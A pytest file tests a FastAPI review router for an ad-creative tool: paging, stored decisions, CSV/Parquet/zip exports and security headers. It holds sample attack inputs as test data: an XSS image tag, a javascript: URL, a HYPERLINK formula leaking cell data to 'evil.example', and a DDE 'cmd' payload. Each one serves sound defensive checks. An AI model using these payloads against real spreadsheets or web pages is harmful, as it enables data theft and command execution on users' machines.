"""The review router in a bare FastAPI app: the page, its JSON endpoints and the export."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from importlib.resources import files
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from fastapi import FastAPI, HTTPException
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from adcraft.pipeline.reviews import sqlite_url
from adcraft.pipeline.run_record import run_id_of
from adcraft.serve.decisions import EXPORT_COLUMNS, decisions_table
from adcraft.serve.review import build_review_router, export_csv
from adcraft.serve.run_view import RunView
from adcraft.serve.spreadsheet import FORMULA_STARTS


def allow_all() -> None:
    """No-op stand-in for the server's token check."""


@pytest.fixture
def client(served_run: tuple[Path, Path], tmp_path: Path):
    app = FastAPI()
    router = build_review_router(RunView.load(*served_run), sqlite_url(tmp_path / "decisions.sqlite"), allow_all)
    app.include_router(router)
    with TestClient(app) as client:
        yield client


def _products(client: TestClient) -> list[dict]:
    response = client.get("/v1/review/products", params={"limit": 100})
    assert response.status_code == 200
    return response.json()["products"]


def test_the_page_and_its_assets_are_served_with_a_strict_policy(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert 'src="review/review.js"' in page.text and 'href="review/review.css"' in page.text
    assert client.get("/review/review.js").headers["content-type"].startswith("text/javascript")
    assert client.get("/review/review.css").headers["content-type"].startswith("text/css")
    assert client.get("/review/secret.py").status_code == 404


def test_static_files_reach_no_other_origin_and_never_parse_data_as_markup() -> None:
    static = files("adcraft.serve").joinpath("static")
    for name in ("review.html", "review.js", "review.css"):
        text = static.joinpath(name).read_text(encoding="utf-8")
        assert not re.search(r"(https?:)?//[a-z0-9.-]+\.[a-z]{2,}", text, re.IGNORECASE), name
    script = static.joinpath("review.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in script


def test_thumbnails_keep_the_whole_creative() -> None:
    css = files("adcraft.serve").joinpath("static", "review.css").read_text(encoding="utf-8")
    found = re.search(r"\.card img\s*\{([^}]*)\}", css)
    rule = re.sub(r"\s+", "", found.group(1)) if found else ""
    assert "object-fit:contain" in rule and "height:auto" in rule, rule  # never cover, never a fixed crop box


def test_products_are_paged_with_current_creative_and_proposals(client: TestClient, served_run) -> None:
    run_dir, _ = served_run
    expected = pd.read_parquet(run_dir / "products.parquet")["product_id"].tolist()
    first = client.get("/v1/review/products", params={"offset": 0, "limit": 2}).json()
    rest = client.get("/v1/review/products", params={"offset": 2, "limit": 100}).json()
    assert first["total"] == len(expected) and first["limit"] == 2
    assert [p["product_id"] for p in first["products"] + rest["products"]] == expected
    product = first["products"][0]
    assert product["current"]["image_id"] == product["current"]["creative_id"]
    assert [p["rank"] for p in product["proposals"]] == sorted(p["rank"] for p in product["proposals"])
    top = product["proposals"][0]
    assert top["image_id"] == Path(top["image"]).stem and top["decision"] is None
    assert top["estimated_lift"]["low"] <= top["estimated_lift"]["lift"] <= top["estimated_lift"]["high"]
    assert all(c["slot"] in first["slots"] and isinstance(c["credit"], float) for c in top["changes"])


@pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 101}, {"offset": -1}, {"offset": "x"}])
def test_bad_paging_is_refused(client: TestClient, params: dict) -> None:
    response = client.get("/v1/review/products", params=params)
    assert response.status_code == 422 and response.json()["detail"]


def test_a_decision_is_stored_and_shown_with_its_product(client: TestClient) -> None:
    proposal = _products(client)[1]["proposals"][0]
    body = {"product_id": proposal["product_id"], "creative_id": proposal["creative_id"], "decision": "approve",
            "note": "<img src=x onerror=alert(1)>"}
    response = client.post("/v1/decisions", json=body)
    assert response.status_code == 201
    saved = response.json()
    assert saved["decision"] == "approve" and saved["note"] == body["note"] and saved["rank"] == proposal["rank"]
    assert saved["decided_at"].endswith("+00:00")
    shown = _products(client)[1]["proposals"][0]["decision"]
    assert shown == saved
    assert client.get("/v1/decisions").json()["decisions"] == [saved]
    client.post("/v1/decisions", json={**body, "decision": "reject", "note": ""})
    assert [d["decision"] for d in client.get("/v1/decisions").json()["decisions"]] == ["reject"]
    history = client.get("/v1/decisions", params={"history": True}).json()["decisions"]
    assert [d["decision"] for d in history] == ["reject", "approve"]
    other = _products(client)[0]["product_id"]
    assert client.get("/v1/decisions", params={"product_id": other}).json()["decisions"] == []


@pytest.mark.parametrize("change, status, message", [
    ({"decision": "maybe"}, 422, "approve"),
    ({"note": "n" * 2001}, 422, "2000"),
    ({"decision": None}, 422, "decision"),
    ({"surprise": 1}, 422, "surprise"),
    ({"product_id": ""}, 422, "product_id"),
    ({"product_id": "no-such-product"}, 404, "no product"),
    ({"creative_id": "no-such-creative"}, 404, "no proposed creative"),
])
def test_bad_payloads_are_refused_with_a_message_and_store_nothing(client: TestClient, change: dict, status: int,
                                                                   message: str) -> None:
    proposal = _products(client)[0]["proposals"][0]
    body = {"product_id": proposal["product_id"], "creative_id": proposal["creative_id"], "decision": "approve",
            "note": ""}
    body = {key: value for key, value in {**body, **change}.items() if value is not None}
    response = client.post("/v1/decisions", json=body)
    assert response.status_code == status
    assert message in json.dumps(response.json()["detail"])
    assert client.get("/v1/decisions", params={"history": True}).json()["decisions"] == []


def test_a_body_that_is_not_json_is_refused(client: TestClient) -> None:
    response = client.post("/v1/decisions", content="product_id=p&decision=approve",
                           headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert response.status_code == 422
    assert client.get("/v1/decisions").json()["decisions"] == []


def _decide(client: TestClient) -> tuple[dict, dict]:
    products = _products(client)
    approved, rejected = products[0]["proposals"][0], products[1]["proposals"][0]
    for proposal, decision, note in ((approved, "approve", "=HYPERLINK(\"x\")"), (rejected, "reject", "no")):
        response = client.post("/v1/decisions", json={"product_id": proposal["product_id"], "decision": decision,
                                                      "creative_id": proposal["creative_id"], "note": note})
        assert response.status_code == 201
    return approved, rejected


def test_export_as_csv_holds_the_approved_creatives_only(client: TestClient) -> None:
    approved, _ = _decide(client)
    response = client.get("/v1/decisions/export", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    frame = pd.read_csv(io.StringIO(response.text))
    assert list(frame.columns) == list(EXPORT_COLUMNS)
    assert frame["creative_id"].tolist() == [approved["creative_id"]]
    assert json.loads(frame.loc[0, "elements"]) == approved["elements"]
    assert frame.loc[0, "image"] == approved["image"] and frame.loc[0, "rank"] == approved["rank"]
    assert frame.loc[0, "note"] == "'=HYPERLINK(\"x\")"  # a spreadsheet shows it, never runs it


def test_the_bundle_download_holds_the_approved_creatives_for_an_ad_manager(client: TestClient, served_run) -> None:
    none_yet = client.get("/v1/decisions/bundle")
    assert none_yet.status_code == 404 and "no approved creative" in none_yet.json()["detail"]
    approved, _ = _decide(client)
    response = client.get("/v1/decisions/bundle")
    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    assert "attachment" in response.headers["content-disposition"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        image = f"images/{approved['creative_id']}.png"
        assert sorted(archive.namelist()) == sorted(["creatives.csv", "manifest.json", image])
        rows = list(csv.DictReader(io.StringIO(archive.read("creatives.csv").decode("utf-8"))))
        manifest = json.loads(archive.read("manifest.json"))
        assert archive.read(image) == (served_run[0] / approved["image"]).read_bytes()
    assert [(r["creative_name"], r["image_file"], r["product_id"]) for r in rows] == [
        (approved["creative_id"], image, approved["product_id"])]
    assert manifest["machine_generated"] is True
    assert manifest["run"]["run_json"] == str((served_run[0] / "run.json").resolve())
    assert client.get("/v1/decisions/bundle", params={"final_url": "javascript:alert(1)"}).status_code == 422
    shop = client.get("/v1/decisions/bundle", params={"final_url": "https://shop.example/{product_id}"})
    with zipfile.ZipFile(io.BytesIO(shop.content)) as archive:
        [row] = csv.DictReader(io.StringIO(archive.read("creatives.csv").decode("utf-8")))
    assert row["final_url"] == f"https://shop.example/{approved['product_id']}"


def test_export_as_parquet_keeps_types(client: TestClient) -> None:
    approved, _ = _decide(client)
    response = client.get("/v1/decisions/export", params={"format": "parquet"})
    assert response.status_code == 200
    frame = pd.read_parquet(io.BytesIO(response.content))
    assert list(frame.columns) == list(EXPORT_COLUMNS)
    assert frame["creative_id"].tolist() == [approved["creative_id"]]
    assert list(frame.loc[0, "elements"]) == approved["elements"]
    assert frame.loc[0, "note"] == "=HYPERLINK(\"x\")"
    assert str(frame["decided_at"].dt.tz) == "UTC"
    assert frame.loc[0, "predicted_ctr"] == pytest.approx(approved["predicted_ctr"])


def universal_newline_rows(text: str) -> list[list[str]]:
    """The CSV's rows as a reader that takes CR, LF and CRLF for line breaks sees them."""
    return list(csv.reader(io.TextIOWrapper(io.BytesIO(text.encode("utf-8")), encoding="utf-8", newline=None)))


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula (numbers such as -0.5 are numbers)."""
    if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS:
        try:
            float(cell)
        except ValueError:
            return True
    return False


def export_frame(rows: list[tuple[str, str, str, str]]) -> pd.DataFrame:
    """An export table of ``(product_id, creative_id, element, note)`` rows."""
    return pd.DataFrame({
        "product_id": pd.Series([r[0] for r in rows], dtype=object),
        "creative_id": pd.Series([r[1] for r in rows], dtype=object),
        "rank": pd.Series(range(1, len(rows) + 1), dtype="int64"),
        "elements": pd.Series([[r[2]] for r in rows], dtype=object),
        "image": pd.Series([f"creatives/{r[1]}.png" for r in rows], dtype=object),
        "predicted_ctr": pd.Series([-0.5] * len(rows), dtype="float64"),
        "note": pd.Series([r[3] for r in rows], dtype=object),
        "decided_at": pd.Series(pd.to_datetime([datetime(2026, 1, 2, tzinfo=UTC)] * len(rows), utc=True)),
        "run_id": pd.Series(["run-0123456789abcdef"] * len(rows), dtype=object),
    })[list(EXPORT_COLUMNS)]


hostile_text = st.one_of(
    st.text(max_size=30),
    st.builds(lambda lead, start, rest: lead + start + rest, st.text(" \t\r\n", max_size=3),
              st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\uff1d", "'", '"']), st.text(max_size=20)),
    st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"click")', "ok\r=1+1", "ok\r\n@SUM(A1)", "-2+3"]),
)


@settings(max_examples=150, deadline=None, database=None, derandomize=True)
@given(rows=st.lists(st.tuples(hostile_text, hostile_text, hostile_text, hostile_text), max_size=5))
def test_no_exported_cell_starts_a_formula(rows: list[tuple[str, str, str, str]]) -> None:
    parsed = universal_newline_rows(export_csv(export_frame(rows)))
    assert len(parsed) == len(rows) + 1 and parsed[0] == list(EXPORT_COLUMNS)
    for row, given_row in zip(parsed[1:], rows):
        assert len(row) == len(EXPORT_COLUMNS)
        assert not any(starts_a_formula(cell) for cell in row), row
        product_id, creative_id, note = row[0], row[1], row[6]
        for cell, original in ((product_id, given_row[0]), (creative_id, given_row[1]), (note, given_row[3])):
            original = original.replace("\r\n", "\n").replace("\r", "\n")  # what universal newlines read
            assert cell in (original, "'" + original)  # the text itself is kept
        assert json.loads(row[3].removeprefix("'")) == [given_row[2]]


def test_export_of_hostile_ids_and_notes_is_inert(client: TestClient, served_run, tmp_path: Path) -> None:
    rows = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "ok\r=1+1"),
            ("p1", "  @SUM(1+1)", "line one\r\n-2+3")]
    engine = sa.create_engine(sqlite_url(tmp_path / "decisions.sqlite"))  # rows as a market with such ids makes them
    with engine.begin() as connection:
        for product_id, creative_id, note in rows:
            connection.execute(sa.insert(decisions_table).values(
                product_id=product_id, creative_id=creative_id, decision="approve", note=note,
                decided_at=datetime.now(UTC), rank=1, elements=["=1+1"], predicted_ctr=0.1, image="x.png",
                run_id=run_id_of(served_run[0]), render={}))
    engine.dispose()
    parsed = universal_newline_rows(client.get("/v1/decisions/export", params={"format": "csv"}).text)
    assert len(parsed) == 1 + len(rows)
    assert not any(starts_a_formula(cell) for row in parsed for cell in row)
    assert sorted(row[0] for row in parsed[1:]) == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "p1"]


def test_an_unknown_export_format_is_refused(client: TestClient) -> None:
    response = client.get("/v1/decisions/export", params={"format": "xlsx"})
    assert response.status_code == 422 and "csv" in json.dumps(response.json()["detail"])


def test_every_route_depends_on_the_given_token_check(served_run, tmp_path: Path) -> None:
    def refuse() -> None:
        raise HTTPException(401, "no token")

    app = FastAPI()
    router = build_review_router(RunView.load(*served_run), sqlite_url(tmp_path / "d.sqlite"), refuse)
    app.include_router(router)
    with TestClient(app) as client:
        for route in router.routes:
            path = route.path.replace("{name}", "review.js")
            for method in route.methods:
                response = client.request(method, path, json={})
                assert response.status_code == 401, (method, path)
